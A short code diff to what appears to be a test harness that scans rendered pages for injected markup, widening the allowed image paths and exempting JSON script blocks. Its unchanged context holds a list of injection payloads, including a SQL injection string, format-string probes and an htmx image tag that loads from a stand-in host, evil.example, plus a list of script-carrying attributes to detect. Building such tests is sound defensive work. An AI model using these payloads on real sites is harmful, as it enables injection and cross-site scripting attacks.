@@ -34,7 +34,8 @@ PAYLOADS = [
     "x' OR '1'='1", "{0.__class__} %s %(name)s %n",
     "<img src=x hx-get=//evil.example hx-trigger=load>",
 ]  # fmt: skip
-KNOWN_SRC = ("/static/",)
+# Files of the program, the logo, and the stills of a piece, which the studio draws itself.
+KNOWN_SRC = re.compile(r"^(?:/static/|/studio/logo/|/jobs/\d+/piece/shape/stills/[a-z-]+\.png$)")
 OWN = re.compile(r"^(?:/|#|\?|$|mailto:|tel:)(?!/)")
 SCRIPT_HOLDERS = {"hx-on", "onerror", "onload", "style", "srcdoc", "autofocus"}
 
@@ -49,11 +50,12 @@ def live(page: Page) -> Iterator[str]:
                 yield f"<{element.tag} {name}={value!r}>"
         if element.tag in {"iframe", "object", "embed", "base", "style", "applet"}:
             yield f"<{element.tag}>"
-        if element.tag == "script" and element.text.strip():
+        # A block of data does not run.
+        if element.tag == "script" and element.text.strip() and element.attributes.get("type") != "application/json":
             yield f"<script>{element.text}"
         if element.tag == "meta" and element.attributes.get("http-equiv"):
             yield "<meta http-equiv>"
-        if element.tag == "img" and not element.attributes.get("src", "").startswith((*KNOWN_SRC, "/studio/logo/")):
+        if element.tag == "img" and not KNOWN_SRC.match(element.attributes.get("src", "")):
             yield f"<img {element.attributes}>"
 
 
